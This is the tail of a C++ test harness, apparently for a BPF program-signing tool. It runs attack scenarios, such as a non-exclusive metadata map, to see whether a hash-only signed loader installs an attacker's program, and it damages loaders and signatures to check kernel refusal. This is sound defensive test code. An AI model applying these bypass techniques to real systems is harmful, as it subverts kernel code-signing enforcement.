  printf("%s: loader run rc %d retval %d (%s), new progs %zu (attacker's: %d), new maps %zu\n",
         t.label.c_str(), rc, retval,
         retval < 0   ? strerror(-retval)
         : retval > 0 ? "prologue verdict"
                      : "ok",
         made.progs.size(), evil_progs, made.maps.size());
  if (rc)
    die("BPF_PROG_TEST_RUN: %s", strerror(errno));
  if (t.defended) {
    constexpr int kNotExclusive = int(bpfseal::format::PrologueVerdict::NotExclusive);
    bool ok = retval == kNotExclusive && made.progs.empty() && made.maps.empty();
    printf("RESULT: %s\n",
           ok ? "defended: prologue verdict 3 (metadata map not exclusive), nothing created"
              : "NOT DEFENDED (expected prologue verdict 3, not exclusive, and no new objects)");
    return ok ? 0 : kExitFail;
  }
  bool succeeded = retval == 0 && evil_progs > 0;
  printf("RESULT: %s\n", succeeded ? "attack SUCCEEDED: the signed loader installed the "
                                     "attacker's program"
                                   : "attack did not succeed against the hash-only loader");
  return succeeded ? 0 : kExitFail;
}

// The kernel's own refusal of a damaged sealed object, without bpfseal's
// reader (which refuses the same damage first, docs/SECURITY.md): the good
// object's loader, signature and metadata are damaged in memory (one bit of a
// loader instruction, one bit of the gen_loader blob, or junk of the
// signature's length) and loaded as libbpfseal would: metadata map exclusive
// to the loader's digest and frozen, signed BPF_PROG_LOAD, one run. Prints
// "RAW: refused at load ERRNO", "RAW: verdict N, new progs P maps M" or
// "RAW: loaded, new progs P maps M".
int cmdRawLoad(const std::string &damage, const std::string &target_arg, int32_t keyring) {
  Target t;
  const bool kc = target_arg.rfind("sealed-kc:", 0) == 0;
  if (!kc && target_arg.rfind("sealed:", 0) != 0)
    die("raw-load target must be sealed:FILE or sealed-kc:FILE");
  if (!sealedTarget(target_arg.substr(kc ? 10 : 7), t, kc))
    return kExitSkip;
  if (t.signature.empty())
    die("%s has no signature", t.label.c_str());
  if (damage == "loaders") {
    size_t at = (t.insns.size() / 2) & ~size_t(7);
    t.insns[at + 4] ^= 0x01; // a bit of an immediate in the middle
  } else if (damage == "metadata") {
    t.metadata[t.blob_size / 2] ^= 0x01;
  } else if (damage == "junk-sig") {
    for (size_t i = 0; i < t.signature.size(); i++)
      t.signature[i] = uint8_t(i * 37 + 11);
  } else if (damage != "none") {
    die("unknown damage %s (none | loaders | metadata | junk-sig)", damage.c_str());
  }

  std::array<uint8_t, 32> digest = sha256(t.insns);
  Fd map(createMetadataMap(t.metadata, "raw_meta", digest.data()));
  if (map.fd < 0) {
    printf("SKIP: exclusive map create: %s (kernel without excl_prog_hash)\n", strerror(errno));
    return kExitSkip;
  }
  // The kernel computes map->sha when asked (libbpfseal asks; the 6.18-scheme
  // prologue compares it).
  (void)kernelMapHash(map.fd);

  static char log[1 << 16];
  int fd_array[1] = {map.fd};
  auto p0 = progIds();
  auto m0 = mapIds();
  Fd loader(
      loadLoaderProg(t.insns, "raw_loader", fd_array, kc, t.signature, keyring, log, sizeof log));
  if (loader.fd < 0) {
    int err = errno;
    Created made = diffIds(p0, m0);
    printf("%s: RAW: refused at load %s (%s), new progs %zu maps %zu\n", t.label.c_str(),
           strerrorname_np(err) ? strerrorname_np(err) : "?", strerror(err), made.progs.size(),
           made.maps.size());
    return 0;
  }
  p0 = progIds();
  m0 = mapIds();
  std::vector<uint8_t> ctx;
  int retval = 0;
  if (runLoaderOnce(loader.fd, t, ctx, &retval))
    die("BPF_PROG_TEST_RUN: %s", strerror(errno));
  Created made = diffIds(p0, m0);
  if (retval == 0)
    closeCtxFds(ctx, t);
  if (retval > 0)
    printf("%s: RAW: verdict %d, new progs %zu maps %zu\n", t.label.c_str(), retval,
           made.progs.size(), made.maps.size());
  else
    printf("%s: RAW: loaded, retval %d, new progs %zu maps %zu\n", t.label.c_str(), retval,
           made.progs.size(), made.maps.size());
  return 0;
}

// A syscall program loaded before enforcement and run after it: what it may
// still load (docs/SECURITY.md "Enforcement").
int cmdStaleLoader(const std::string &dir, const std::string &waitfile) {
  Target t = upstreamTarget(dir);
  Fd map(
      bpf_map_create(BPF_MAP_TYPE_ARRAY, "stale_meta", 4, uint32_t(t.metadata.size()), 1, nullptr));
  uint32_t key = 0;
  if (map.fd < 0 || bpf_map_update_elem(map.fd, &key, t.metadata.data(), 0) ||
      bpf_map_freeze(map.fd))
    die("metadata map: %s", strerror(errno));
  uint8_t hash[32] = {}, info[104] = {};
  uint64_t hash_ptr = uint64_t(uintptr_t(hash));
  uint32_t hash_size = 32;
  std::memcpy(info + 88, &hash_ptr, 8);
  std::memcpy(info + 96, &hash_size, 4);
  Attr gi;
  gi.put<uint32_t>(0, uint32_t(map.fd));
  gi.put<uint32_t>(4, sizeof info);
  gi.put<uint64_t>(8, uint64_t(uintptr_t(info)));
  if (sysBpf(BPF_OBJ_GET_INFO_BY_FD, gi))
    die("map hash: %s", strerror(errno));
  int fd_array[1] = {map.fd};
  Attr ll;
  ll.put<uint32_t>(0, BPF_PROG_TYPE_SYSCALL);
  ll.put<uint32_t>(4, uint32_t(t.insns.size() / 8));
  ll.put<uint64_t>(8, uint64_t(uintptr_t(t.insns.data())));
  ll.put<uint64_t>(16, uint64_t(uintptr_t("Dual BSD/GPL")));
  ll.put<uint32_t>(44, BPF_F_SLEEPABLE);
  std::memcpy(ll.b + 48, "stale_loader", 13);
  ll.put<uint64_t>(120, uint64_t(uintptr_t(fd_array)));
  Fd loader(int(sysBpf(BPF_PROG_LOAD, ll)));
  if (loader.fd < 0)
    die("unsigned loader load: %s", strerror(errno));
  printf("stale loader loaded (unsigned), waiting for %s\n", waitfile.c_str());
  for (int i = 0; i < 1200 && access(waitfile.c_str(), F_OK) != 0; i++)
    usleep(100000);
  auto p0 = progIds();
  auto m0 = mapIds();
  std::vector<uint8_t> ctx(24 + 16 * size_t(t.nmaps) + 4 * size_t(t.nprogs));
  uint32_t ctx_sz = uint32_t(ctx.size());
  std::memcpy(ctx.data(), &ctx_sz, 4);
  LIBBPF_OPTS(bpf_test_run_opts, run, .ctx_in = ctx.data(), .ctx_size_in = ctx_sz);
  if (bpf_prog_test_run_opts(loader.fd, &run))
    die("BPF_PROG_TEST_RUN: %s", strerror(errno));
  Created made = diffIds(p0, m0);
  printf("created %zu programs, retval %d (%s)\n", made.progs.size(), int(run.retval),
         int(run.retval) < 0 ? strerror(-int(run.retval)) : "ok");
  return 0;
}

void usage() {
  fprintf(
      stderr,
      "usage: bpfseal-vmtest ids [PREFIX...] | next-ids | prog-count NAME | prog-xlated NAME | map-value NAME KEY |\n"
      "       keyring-new DESC | keyring-drop SERIAL | add-cert KEYRING CERT.der | session CMD... | layout | gen-upstream OBJ DIR |\n"
      "       attack zero-digest|non-exclusive upstream:DIR|sealed:FILE|sealed-kc:FILE "
      "[--keyring ID | --unsigned]\n"
      "       raw-load none|loaders|metadata|junk-sig sealed:FILE|sealed-kc:FILE [--keyring ID] |\n"
      "       plain-load [TYPE] | plain-loads N | fd-by-id link|map ID | link-ops ID | stale-loader DIR WAITFILE\n");
  exit(2);
}

} // namespace

int main(int argc, char **argv) {
  setvbuf(stdout, nullptr, _IOLBF, 0);
  if (argc < 2)
    usage();
  std::string cmd = argv[1];
  if (cmd == "ids")
    return cmdIds(argc - 2, argv + 2);
  if (cmd == "next-ids")
    return cmdNextIds();
  if (cmd == "prog-count" && argc == 3) {
    printf("%d\n", progsNamed(argv[2]));
    return 0;
  }
  if (cmd == "prog-xlated" && argc == 3)
    return cmdProgXlated(argv[2]);
  if (cmd == "map-value" && argc == 4)
    return cmdMapValue(argv[2], uint32_t(strtoul(argv[3], nullptr, 0)));
  if (cmd == "keyring-new" && argc == 3)
    return cmdKeyringNew(argv[2]);
  if (cmd == "keyring-drop" && argc == 3)
    return cmdKeyringDrop(argv[2]);
  if (cmd == "add-cert" && (argc == 4 || argc == 5))
    return cmdAddCert(argv[2], argv[3], argc == 5 ? argv[4] : "bpfseal-vm-test");
  if (cmd == "session" && argc >= 3)
    return cmdSession(argv + 2);
  if (cmd == "plain-load")
    return cmdPlainLoad(argc >= 3 ? argv[2] : "socket_filter");
  if (cmd == "plain-loads" && argc == 3)
    return cmdPlainLoads(strtol(argv[2], nullptr, 0));
  if (cmd == "link-ops" && argc == 3)
    return cmdLinkOps(uint32_t(strtoul(argv[2], nullptr, 0)));
  if (cmd == "fd-by-id" && argc == 4)
    return cmdFdById(argv[2], uint32_t(strtoul(argv[3], nullptr, 0)));
  if (cmd == "stale-loader" && argc == 4)
    return cmdStaleLoader(argv[2], argv[3]);
  if (cmd == "layout")
    return cmdLayout();
  if (cmd == "gen-upstream" && argc == 4)
    return cmdGenUpstream(argv[2], argv[3]);
  if (cmd == "raw-load" && argc >= 4) {
    int32_t keyring = KEY_SPEC_SESSION_KEYRING;
    if (argc == 6 && std::string(argv[4]) == "--keyring")
      keyring = int32_t(strtol(argv[5], nullptr, 0));
    else if (argc != 4)
      usage();
    return cmdRawLoad(argv[2], argv[3], keyring);
  }
  if (cmd == "attack" && argc >= 4) {
    bool signed_load = true;
    int32_t keyring = KEY_SPEC_SESSION_KEYRING;
    for (int i = 4; i < argc; i++) {
      std::string a = argv[i];
      if (a == "--unsigned")
        signed_load = false;
      else if (a == "--keyring" && i + 1 < argc)
        keyring = int32_t(strtol(argv[++i], nullptr, 0));
      else
        usage();
    }
    return cmdAttack(argv[2], argv[3], signed_load, keyring);
  }
  usage();
}
